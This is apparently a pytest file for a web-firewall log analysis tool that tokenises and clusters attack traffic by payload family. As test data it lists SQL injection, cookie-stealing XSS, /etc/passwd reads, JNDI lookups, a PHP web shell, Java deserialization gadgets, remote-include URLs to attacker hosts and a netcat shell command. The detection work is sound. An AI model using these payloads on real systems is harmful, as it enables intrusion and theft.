"""The payload view: attack token classes, and clusters that separate families that differ only in payload."""

from collections import Counter
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sklearn.metrics import adjusted_rand_score

from waflens.clustering.payload_view import normalise, tokens
from waflens.labeling.evidence import build_evidence
from waflens.labeling.offline import OfflineSummarizer
from waflens.labeling.taxonomy import canonical_family
from waflens.clustering.run import ClusterOptions, cluster_sessions
from waflens.data.sessionize import update_derived
from waflens.data.synthetic_neutral import NEUTRAL_CAMPAIGNS, generate_neutral_traffic
from tests.data.helpers import campaign_of_sessions, fresh_db, ingest

FAMILY_EXAMPLES = {
    "sql": ["1' UNION SELECT NULL,@@version-- -", "admin' or '1'='1", "1 AND SLEEP(5)#"],
    "html": ["<script>alert(1)</script>", "<img src=x onerror=prompt(document.cookie)>", "<svg/onload=confirm(1)>"],
    "shell": [";cat /etc/passwd", "| whoami", "`id`", "$(uname -a)"],
    "traversal": ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//proc/self/environ%00"],
    "url": ["http://198.51.100.23/shell.txt?", "ftp://203.0.113.7/x.txt", "//attacker.example/c99.txt?"],
    "template": ["${jndi:ldap://x.example/a}", "${${lower:j}ndi:rmi://x/a}", "{{7*7}}", "#{7*7}"],
    "php": ["<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "phpinfo()"],
    "java": ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "aced00057372", "T(java.lang.Runtime).getRuntime().exec('id')",
             "org.apache.commons.collections.functors.InvokerTransformer"],
}


@pytest.mark.parametrize("cls", sorted(FAMILY_EXAMPLES))
def test_each_class_is_named_by_its_payloads(cls):
    for payload in FAMILY_EXAMPLES[cls]:
        found = Counter(t.split(":", 1)[0] for t in tokens(payload))
        assert found[cls] > 0, (payload, found)


@pytest.mark.parametrize("word", ["; sleep 5", "sleep", "2809;", "<!--#exec cmd=\"/usr/bin/id;-->", "a);/usr/bin/id|",
                                  "cmd=\"sleep 5\"-->", "nc -lvvp 4444 -e /bin/sh;"])
def test_command_injection_reads_as_commands_not_sql(word):
    """Real background, seed 8: a fifth of the rce sessions' tokens were SQL (bare sleep, a word-final ';',
    the exec and -- of a server-side include), so they sat between sqli and rce: F1 0.80."""
    found = Counter(t.split(":", 1)[0] for t in tokens(word))
    assert found["shell"] > 0 and found["sql"] == 0, found


def test_sql_calls_stay_sql():
    assert Counter(t.split(":", 1)[0] for t in tokens("1 AND SLEEP(5)#")) == {"sql": 3}
    assert "sql:benchmark(" in tokens("1 or benchmark(5000000,md5(1))")


def test_which_command_runs_does_not_matter():
    """One campaign draws its commands per payload: as 40 separate tokens they scattered it over the view."""
    assert tokens(";id") == tokens(";whoami") == tokens("; uname") == ["shell:command", "shell:;"]


def test_strength_counts_requests_not_words():
    """A command's arguments are words without tokens: by words, "nc -lvvp 4444 -e /bin/sh" weighed a third
    of ";id", and one campaign's sessions spread from 0.43 to 0.90 along their direction."""
    from waflens.clustering.matrix import _payload_blocks

    # session documents as session_documents makes them: distinct targets, "\x1f" between
    documents = ["/search?q=;id\x1f/search?q=winter boots",
                 "/search?q=;nc -lvvp 4444 -e /bin/sh\x1f/search?q=winter boots",
                 "/search?q=1' union select null--\x1f/help", "/item?id=<script>alert(1)</script>\x1f/help",
                 "/search?q=winter boots\x1f/help"]
    (_, strength), _ = _payload_blocks(documents, None, 0)
    assert strength.tolist() == pytest.approx([0.5, 0.5, 0.5, 0.5, 0.0])


def test_a_token_counts_once_per_target():
    """sqlmap's CHAR(73)+CHAR(78)+... says "char" a dozen times in one request: counted per occurrence it
    outweighed a session's other requests, and the sessions that happened to draw it formed their own cluster
    (coupled sqli_scan, seed 9: 13 of 35 sessions apart on a component that was "sql:char", F1 0.772)."""
    import numpy as np
    from scipy import sparse

    from waflens.clustering.payload_view import payload_counts

    targets = ["/p?v=1 AND 5650=CONVERT(INT,(SELECT CHAR(73)+CHAR(78)+CHAR(74)+CHAR(69)+CHAR(67)+CHAR(84)))"]
    view = payload_counts(sparse.csr_matrix(np.ones((1, 1))), targets)
    assert dict(zip(view.vocabulary, view.counts.toarray()[0]))["sql:char"] == 1


@pytest.mark.parametrize("text", ["/product/1234", "/search?q=waterproof jacket&page=2", "/static/css/main.3f9a1c.css",
                                  "/blog/how-to-layer-for-winter-hikes", "/presentations/logstash-monitorama-2013/"])
def test_ordinary_targets_carry_no_tokens(text):
    assert tokens(text) == []


def test_nested_encodings_digits_and_quotes_read_alike():
    plain = "../../etc/passwd"
    assert tokens(quote(quote(plain, safe=""), safe="")) == tokens(plain)           # double percent-encoded
    assert tokens("%u002e%u002e/%u002e%u002e/etc/passwd") == tokens(plain)
    assert tokens("&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;") == tokens("<script>alert(1)</script>")
    assert tokens("\\x3cscript\\x3e") == tokens("<script>")
    assert normalise("1' OR 0x41=0x41 AND \"7\"=\"7") == normalise("1' or 0x1f=0x1f and '9'='9")


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_characters="%&\\", blacklist_categories=("Cs",)), max_size=60))
def test_percent_encoding_never_changes_the_tokens(text):
    assert tokens(quote(text, safe="")) == tokens(text)


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=200))
def test_hostile_text_always_tokenizes(text):
    assert all(isinstance(t, str) and ":" in t for t in tokens(text))


def _clustered(tmp_path, **options):
    log = tmp_path / "neutral.log"
    generate_neutral_traffic(log, options.pop("n", 12_000), options.pop("seed", 7), **options)
    con = fresh_db(tmp_path)
    ingest(con, log)
    update_derived(con)
    run = cluster_sessions(con, ClusterOptions(min_cluster_size=5))
    clusters = dict(con.execute("SELECT session_id, cluster_id FROM session_clusters WHERE cluster_run_id = $r",
                                {"r": run.cluster_run_id}).fetchall())
    return campaign_of_sessions(con, log), clusters, con, run.cluster_run_id


def _f1(campaign, clusters, name):
    members = {s for s in campaign if campaign[s] == name}
    best = 0.0
    for cid in set(clusters.values()) - {-1}:
        cluster = {s for s, c in clusters.items() if c == cid}
        best = max(best, 2 * len(cluster & members) / (len(cluster) + len(members)))
    return best


def test_families_that_behave_alike_separate_by_payload(tmp_path, shared_datasets):
    """Issue C2: on main all eight families fell into one cluster (ARI 0.00, worst F1 0.22)."""
    campaign, clusters, con, run = _clustered(tmp_path, shared_dir=shared_datasets)
    attack = [s for s in campaign if campaign[s] != "benign"]
    ari = adjusted_rand_score([campaign[s] for s in attack], [clusters.get(s, -2) for s in attack])
    assert ari >= 0.85, ari
    for name in NEUTRAL_CAMPAIGNS:  # one tool running one family is one cluster, whatever its agents and pace
        assert _f1(campaign, clusters, name) >= 0.85, name   # scanners too: they mix families, but alike
    benign = [s for s in campaign if campaign[s] == "benign"]
    by_cluster = Counter(clusters.get(s, -1) for s in benign)
    attack_clusters = {c for c in set(clusters.values()) - {-1}
                       if Counter(campaign[s] for s in clusters if clusters[s] == c).most_common(1)[0][0] != "benign"}
    assert sum(by_cluster[c] for c in attack_clusters) <= 0.01 * len(benign)
    _summaries_name_the_family(campaign, clusters, con, run, attack_clusters)


def _summaries_name_the_family(campaign, clusters, con, run, attack_clusters):
    """The offline summarizer names each attack cluster by the family its sessions carry (scanners: scanner)."""
    for cid in attack_clusters:
        truth = Counter(campaign[s] for s in clusters if clusters[s] == cid).most_common(1)[0][0]
        family = OfflineSummarizer().summarize(build_evidence(con, run, cid)).family
        assert family == canonical_family(truth), (cid, truth, family)


def test_families_separate_over_real_benign_traffic(tmp_path, shared_datasets):
    """Seed 8: the rce family split (F1 0.80) before commands read as commands and strength counted requests."""
    campaign, clusters, con, run = _clustered(tmp_path, background="real", shared_dir=shared_datasets, seed=8)
    attack = [s for s in campaign if campaign[s] != "benign"]
    ari = adjusted_rand_score([campaign[s] for s in attack], [clusters.get(s, -2) for s in attack])
    assert ari >= 0.85, ari
    for name in NEUTRAL_CAMPAIGNS:
        assert _f1(campaign, clusters, name) >= 0.85, name
